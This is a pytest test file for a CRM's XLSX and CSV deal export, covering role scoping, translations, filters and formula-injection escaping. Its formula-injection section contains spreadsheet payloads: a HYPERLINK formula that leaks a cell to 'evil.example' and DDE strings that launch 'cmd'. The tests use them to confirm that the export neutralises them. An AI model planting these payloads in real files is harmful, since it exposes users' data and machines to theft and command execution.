"""/export: an XLSX of deals and their history, streamed, scoped like the reports."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook

from handlers.funnel.views import export_words
from handlers.ui.i18n import LANGUAGES, has
from services.errors import PermissionDenied, ValidationError
from services.reports import export
from services.reports.analytics import Period
from services.reports.export import ExportFilter, csv_field, export_deals, export_deals_xlsx
from services.sales import deals
from tests.factories import cast, new_deal

RU, EN = export_words("ru"), export_words("en")  # the front-end's words for the file


@pytest.fixture
async def people(make_actor):
    return await cast(make_actor, "ann", "bob", "lea")


@pytest.fixture
async def three_deals(uow_factory, clock, people):
    ann, bob = people["ann"], people["bob"]
    clock.advance(days=-40)  # 2025-12-03: last month
    old = await new_deal(uow_factory, bob, name="Олег Старый", amount="5000")
    clock.advance(days=40)  # back to Monday 2026-01-12 09:00 UTC
    first = await new_deal(uow_factory, ann, name="Иван Петров", amount="150 000,50")
    clock.advance(hours=2)
    async with uow_factory() as uow:
        await deals.advance(uow, ann, first.id, None)
    second = await new_deal(uow_factory, ann, name="Мария Белова")
    clock.advance(hours=1)
    async with uow_factory() as uow:
        await deals.lose(uow, ann, second.id, "expensive", "дорого для неё")
    return {"old": old.id, "first": first.id, "second": second.id}


def sheets(data: bytes) -> dict[str, list[tuple[object, ...]]]:
    book = load_workbook(io.BytesIO(data))
    return {ws.title: [tuple(r) for r in ws.iter_rows(values_only=True)] for ws in book}


async def test_leader_exports_every_deal_with_history(uow_factory, people, three_deals):
    calls: list[tuple[int, int]] = []
    async with uow_factory() as uow:
        data = await export_deals_xlsx(
            uow,
            people["lea"],
            ExportFilter(tz="Europe/Moscow"),
            RU,
            lambda done, total: calls.append((done, total)),
            chunk=2,
        )
    book = sheets(data)
    assert list(book) == ["Сделки", "История"]
    header, *rows = book["Сделки"]
    assert header[:6] == ("ID", "Сделка", "Воронка", "Этап", "Итог", "Менеджер")
    by_id = {r[0]: r for r in rows}
    assert list(by_id) == sorted(three_deals.values())
    first = by_id[three_deals["first"]]
    assert first[2:7] == ("Продажа", "КП отправлено", "в работе", "Ann", "Иван Петров")
    assert isinstance(first[7], str) and first[7].startswith("+7916")
    assert first[9] == 150_000.50 and first[12] is None
    assert first[10] == datetime(2026, 1, 12, 12, 0)  # 09:00 UTC in Moscow
    second = by_id[three_deals["second"]]
    assert (second[3], second[4], second[12]) == ("Провал", "провал", "Дорого")
    assert second[11] == datetime(2026, 1, 12, 15, 0)
    _, *changes = book["История"]
    assert [(c[0], c[2], c[3]) for c in changes] == [
        (three_deals["old"], None, "Сбор данных"),
        (three_deals["first"], None, "Сбор данных"),
        (three_deals["first"], "Сбор данных", "КП отправлено"),
        (three_deals["second"], None, "Сбор данных"),
        (three_deals["second"], "Сбор данных", "Провал"),
    ]
    assert changes[-1][4:] == ("Ann", "Дорого", "дорого для неё")
    # Progress in steps of at most `chunk` rows, ending at 3 deals + 5 changes.
    assert calls[-1] == (8, 8) and [d for d, _ in calls] == sorted({d for d, _ in calls})
    assert len(calls) >= 4


async def test_a_manager_exports_only_their_deals(uow_factory, people, three_deals):
    async with uow_factory() as uow:
        data = await export_deals_xlsx(
            uow, people["ann"], ExportFilter(manager_id=people["bob"].id), EN, lang="en"
        )
    book = sheets(data)
    assert list(book) == ["Deals", "History"]
    assert [r[0] for r in book["Deals"][1:]] == [three_deals["first"], three_deals["second"]]
    assert {r[0] for r in book["History"][1:]} == {three_deals["first"], three_deals["second"]}
    assert book["Deals"][1][4] == "open"


async def test_an_english_reader_reads_the_file_in_english(uow_factory, people, three_deals):
    """Titles and outcomes from the en catalog, configured names by their English names;
    what people typed stays as typed; amounts and moments stay numbers and datetimes."""
    async with uow_factory() as uow:
        data = await export_deals_xlsx(
            uow, people["lea"], ExportFilter(tz="Europe/Moscow"), EN, lang="en"
        )
    book = sheets(data)
    assert list(book) == ["Deals", "History"]
    (header, *rows), (changes_header, *changes) = book["Deals"], book["History"]
    assert header == tuple(EN[f"col.{c}"] for c in export.DEAL_COLUMNS)
    assert changes_header[:4] == ("Deal ID", "When", "From stage", "To stage")
    typed = {"Олег Старый", "Иван Петров", "Мария Белова", "дорого для неё"}
    cells = [c for r in (header, *rows, changes_header, *changes) for c in r if c not in typed]
    assert not [c for c in cells if isinstance(c, str) and re.search("[\u0400-\u04ff]", c)]
    by_id = {r[0]: r for r in rows}
    first, second = by_id[three_deals["first"]], by_id[three_deals["second"]]
    assert first[2:5] == ("Sales", "Proposal sent", "open") and first[9] == 150_000.50
    assert (second[3], second[4], second[12]) == ("Lost", "lost", "Too expensive")
    assert changes[-1][2:6] == ("Data collection", "Lost", "Ann", "Too expensive")


@pytest.mark.parametrize("lang", LANGUAGES)
def test_every_word_of_the_file_is_in_the_catalog(lang):
    words = export_words(lang)
    assert set(words) == set(export.WORDS)
    assert all(has(f"export.{code}", lang) for code in export.WORDS)
    assert len(set(words.values())) > len(export.DEAL_COLUMNS)  # words, not the codes


async def test_period_and_pipeline_filters(uow_factory, people, three_deals):
    async with uow_factory() as uow:
        sales = (await uow.repo.pipelines.by_code("sales")).id
        deferred = (await uow.repo.pipelines.by_code("deferred")).id
    async with uow_factory() as uow:
        month = await export_deals_xlsx(
            uow, people["lea"], ExportFilter(period=Period.THIS_MONTH, pipeline_id=sales), RU
        )
    assert [r[0] for r in sheets(month)["Сделки"][1:]] == [
        three_deals["first"],
        three_deals["second"],
    ]
    async with uow_factory() as uow:
        none = await export_deals_xlsx(uow, people["lea"], ExportFilter(pipeline_id=deferred), RU)
    assert sheets(none)["Сделки"][1:] == [] and sheets(none)["История"][1:] == []


async def test_refusals(uow_factory, make_actor, people, three_deals):
    measurer = await make_actor(roles=("measurer",), name="Max")
    with pytest.raises(PermissionDenied):
        async with uow_factory() as uow:
            await export_deals_xlsx(uow, measurer, ExportFilter(), RU)
    with pytest.raises(ValidationError) as err:
        async with uow_factory() as uow:
            await export_deals_xlsx(uow, people["lea"], ExportFilter(), RU, max_deals=2)
    assert err.value.code == "too_many" and err.value.params["count"] == 3
    with pytest.raises(ValidationError):
        async with uow_factory() as uow:
            await export_deals_xlsx(uow, people["lea"], ExportFilter(tz="Nowhere/City"), RU)


async def test_async_progress_is_awaited(uow_factory, people, three_deals):
    seen = []

    async def progress(done: int, total: int) -> None:
        seen.append(done)

    async with uow_factory() as uow:
        await export_deals_xlsx(uow, people["lea"], ExportFilter(), RU, progress)
    assert seen[-1] == 8


# --- formula injection (issue 11): names that a spreadsheet would evaluate --------------

FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+7+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+2",
)


@pytest.fixture
async def formula_deals(uow_factory, clock, people):
    ann = people["ann"]
    made = []
    for i, name in enumerate(FORMULA_NAMES):
        legal = {"is_legal_entity": True, "company_name": name} if i % 2 == 0 else {}
        deal = await new_deal(uow_factory, ann, name=name, **legal)
        async with uow_factory() as uow:
            await deals.lose(uow, ann, deal.id, "expensive", name)  # a comment in History
        made.append(deal.id)
    return made


async def test_xlsx_cells_that_look_like_formulas_are_text(uow_factory, people, formula_deals):
    async with uow_factory() as uow:
        data = await export_deals_xlsx(uow, people["lea"], ExportFilter(), RU)
    book = load_workbook(io.BytesIO(data))
    texts: set[str] = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    texts.add(cell.value)
    deals_sheet = book["Сделки"]
    for row in deals_sheet.iter_rows(min_row=2):
        # B (the deal's title) and G (the client), as the attack found them; I (company).
        for cell in (row[1], row[6]):
            assert cell.data_type == "s" and cell.value.startswith(FORMULA_NAMES)
    assert set(FORMULA_NAMES) <= texts  # the original text, unchanged
    # And in the file itself: no formula element at all, the cells are inline strings.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)


async def test_csv_export_escapes_formulas_and_keeps_the_text(uow_factory, people, formula_deals):
    async with uow_factory() as uow:
        data = await export_deals(uow, people["lea"], ExportFilter(), EN, kind="csv", lang="en")
    assert data.startswith("\ufeff".encode())
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0][:2] == ["ID", "Deal"] and len(rows) == 1 + len(FORMULA_NAMES)
    assert all(line.startswith('"') for line in text.splitlines())  # every field quoted
    for row in rows[1:]:
        for value in row:
            # Every cell is text no spreadsheet evaluates: nothing starts a formula.
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
        assert row[6].startswith("'") and row[6][1:] in FORMULA_NAMES  # the client, kept
        assert row[1].startswith("'")  # the deal's title
    assert {r[6][1:] for r in rows[1:]} == set(FORMULA_NAMES)
    companies = {r[8][1:] for r in rows[1:] if r[8]}
    assert companies == set(FORMULA_NAMES[::2])


def test_csv_field_rules():
    assert csv_field("\tcmd") == "'\tcmd" and csv_field("\r=1") == "'\r=1"
    assert csv_field("Ivan") == "Ivan" and csv_field(None) == "" and csv_field(12) == "12"
    assert csv_field(1500.5) == "1500.50"
    assert csv_field(datetime(2026, 1, 2, 3, 4, 5)) == "2026-01-02 03:04:05"
